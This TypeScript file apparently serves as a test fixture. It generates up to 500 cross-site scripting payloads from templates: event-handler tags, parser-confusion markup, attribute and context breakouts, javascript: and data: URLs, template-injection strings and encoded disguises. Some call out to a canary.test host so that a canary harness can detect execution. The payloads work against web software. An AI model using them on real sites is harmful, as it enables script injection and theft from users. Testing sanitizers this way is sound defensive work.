/** How each of them says that it runs; `ran` is what `watch` (canary.ts) puts into every page. */
const ACTIONS = [
  'ran()',
  'alert(1)',
  "self['ran']()",
  'ran``',
  '[1].map(ran)',
  'top.ran()',
  'ran?.call()',
];

/** § is the action. */
const TEMPLATES = [
  // markup
  '<script>§</script>',
  '<ScRiPt>§</sCrIpT>',
  '<img src=x onerror=§>',
  '<IMG SRC=X ONERROR=§>',
  '<img/src=x/onerror=§>',
  '<img src=x onerror=§//',
  '<svg onload=§>',
  '<svg><script>§</script>',
  '<svg><animate onbegin=§ attributeName=x dur=1s>',
  '<svg><a href=javascript:§><text y=9>x</a>',
  '<body onload=§>',
  '<iframe src="javascript:§">',
  '<iframe srcdoc="<script>parent.§</script>">',
  '<details open ontoggle=§>',
  '<video src=x onerror=§>',
  '<audio src=x onerror=§>',
  '<video><source onerror=§>',
  '<input autofocus onfocus=§>',
  '<select autofocus onfocus=§>',
  '<textarea autofocus onfocus=§>',
  '<p contenteditable autofocus onfocus=§>',
  '<marquee onstart=§>',
  '<style onload=§></style>',
  '<p style="animation:rise 1s" onanimationstart=§>',
  '<a href="javascript:§">x</a>',
  '<object data="javascript:§">',
  '<embed src="javascript:§">',
  '<form action="javascript:§"><button autofocus>',
  '<button popovertarget=x onclick=§>x',
  '<template shadowrootmode=open><img src=x onerror=§>',
  // markup that changes when it is read twice
  '<noscript><p title="</noscript><img src=x onerror=§>">',
  '<svg></p><style><a id="</style><img src=x onerror=§>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=§>',
  '<form><math><mtext></form><mglyph><style></math><img src onerror=§>',
  '<xmp><p title="</xmp><img src=x onerror=§>">',
  '<!--><img src=x onerror=§>-->',
  '<scr<script>ipt>§</scr</script>ipt>',
  '<<script>§//<</script>',
  // out of where it stands
  '" onerror=§ x="',
  "' onerror=§ x='",
  '" autofocus onfocus=§ x="',
  "' autofocus onfocus=§ x='",
  '` onload=§ x=`',
  '"><img src=x onerror=§>',
  "'><svg onload=§>",
  '--><img src=x onerror=§>',
  ']]><svg onload=§>',
  '</title><svg onload=§>',
  '</textarea><svg onload=§>',
  '</option></select><img src=x onerror=§>',
  '</script><script>§</script>',
  '</style><svg onload=§>',
  '</svg><img src=x onerror=§>',
  // addresses
  'javascript:§',
  'JaVaScRiPt:§',
  'javascript://%0a§',
  'java&#9;script:§',
  'javascript&colon;§',
  '&#106;avascript:§',
  'vbscript:§',
  'data:text/html,<script>§</script>',
  'data:image/svg+xml,<svg onload=§>',
  // script and templates
  "';§;//",
  '";§;//',
  "\\';§;//",
  '`;§;//',
  "'-§-'",
  '"-§-"',
  '*/§/*',
  '${§}',
  '{{§}}',
  "{{constructor.constructor('§')()}}",
  '<%= § %>',
  '#{§}',
  '[[§]]',
  '{"__html":"<img src=x onerror=§>"}',
  '{"$$typeof":"react.element","onload":"§"}',
  // disguises
  '&lt;img src=x onerror=§&gt;',
  '&#60;img src=x onerror=§&#62;',
  '%3Cimg src=x onerror=§%3E',
  String.raw`\x3cimg src=x onerror=§\x3e`,
  String.raw`\u003cimg src=x onerror=§\u003e`,
  '＜img src=x onerror=§＞',
  '<ſcript>§</ſcript>',
  '<ıframe src="javascript:§">',
  '<img src=x onerror\u00a0=§>',
  'jaVasCript:/*`/*"/**/(/* */oNcliCk=§ )//',
  '\'">><marquee><img src=x onerror=§></marquee>',
] as const;

/** What asks another server for something, which is as good as telling it. */
const CALLS = [
  '<img src=//canary.test/i>',
  '<script src=//canary.test></script>',
  '<link rel=stylesheet href=//canary.test/x.css>',
  '<base href=//canary.test/>',
  '<meta http-equiv=refresh content="0;url=//canary.test">',
  "<style>@import'//canary.test'</style>",
  '"}*{background:url(//canary.test/)}',
  'x;background:url(//canary.test/)',
  '<svg><use href=//canary.test/#x>',
  '//canary.test/',
  'https://canary.test/',
];

const NAME_MAX = 80;
const COUNT = 500;

/** 500 texts, each of which runs or calls out where somebody takes it for more than text; as they are stored. */
export const PAYLOADS: readonly string[] = [
  ...CALLS,
  ...ACTIONS.flatMap((action) => TEMPLATES.map((template) => template.replaceAll('§', action))),
]
  .filter((payload) => payload.length <= NAME_MAX)
  .slice(0, COUNT);
